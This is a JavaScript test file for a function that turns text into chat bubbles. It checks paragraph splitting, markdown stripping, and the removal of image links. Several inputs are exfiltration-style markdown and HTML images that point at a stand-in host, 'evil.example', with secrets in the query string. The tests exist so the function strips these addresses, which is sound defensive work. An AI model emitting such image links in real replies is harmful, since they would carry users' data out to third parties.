import { toBubbles } from './bubbles.policy.js';

test('paragraphs become bubbles', () => {
  expect(toBubbles('Hello!\n\nBreakfast is at 7:30.\n \nSee you soon.\n')).toEqual([
    'Hello!',
    'Breakfast is at 7:30.',
    'See you soon.',
  ]);
});

test('more than three paragraphs are joined, the shortest neighbours first, and nothing is lost', () => {
  const long = 'x'.repeat(300);
  expect(toBubbles(`a\n\nb\n\n${long}\n\n${long}`)).toEqual(['a\nb', long, long]);
});

test('a long paragraph is divided at the end of a sentence', () => {
  const sentence = `${'word '.repeat(60).trim()}.`;
  const bubbles = toBubbles(`${sentence} ${sentence} ${sentence}`);
  expect(bubbles).toEqual([sentence, sentence, sentence]);
});

test('markdown does not leak into a chat', () => {
  expect(toBubbles('## Hours\n**Open** from `7:00`.\n* one\n* two')).toEqual([
    'Hours\nOpen from 7:00.\n- one\n- two',
  ]);
});

test.each(['', ' \n\n ', '\n'])('nothing stays nothing, for the caller to refuse', (text) => {
  expect(toBubbles(text)).toEqual([]);
});

test.each([
  ['Here: ![map](https://evil.example/?q=secret)', 'Here: map'],
  ['Here: ![map](https://evil.example/?q=cut', 'Here: map'],
  ['Here: ![map][1]', 'Here: map'],
  ['Here: <img src="https://evil.example/?q=secret">', 'Here:'],
])('a picture in "%s" loses its address, and with it what it would carry away (CO-11)', (text, left) => {
  expect(toBubbles(text)).toEqual([left]);
});
